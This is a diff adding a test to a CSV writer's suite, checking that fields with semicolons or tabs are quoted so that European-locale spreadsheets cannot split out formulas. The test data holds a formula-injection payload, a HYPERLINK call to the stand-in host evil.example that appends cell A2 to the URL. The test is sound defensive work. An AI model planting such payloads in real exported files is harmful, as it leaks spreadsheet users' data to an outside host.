@@ -36,6 +36,14 @@ describe("the one CSV writer", () => {
     expect(csvField("a=b")).toBe("a=b");
   });
 
+  it("quotes a field holding a semicolon or tab, so a spreadsheet whose list separator is ';' (Spanish, most of Europe) cannot split a formula out of it", () => {
+    // Excel in es-ES opens a .csv with ';' as the separator: unquoted, this name became two cells,
+    // the second one "=HYPERLINK(…)" — a live formula. Quoted, it stays one cell of text.
+    expect(csvField('Ana;=HYPERLINK("http://evil.example/?"&A2,"Open")')).toBe('"Ana;=HYPERLINK(""http://evil.example/?""&A2,""Open"")"');
+    expect(csvField("Ana\t=1+1")).toBe('"Ana\t=1+1"');
+    expect(read(csvRows([["Ana;=1+1", "x"]]))).toEqual([["Ana;=1+1", "x"]]);
+  });
+
   it("leaves a plain number alone (a spreadsheet reads it as a number, evaluating nothing)", () => {
     for (const n of ["-3", "+5", "-0.25", "-.5", "1e-3", "-2E+4"]) expect(csvField(n)).toBe(n);
     expect(csvField(-3)).toBe("-3");
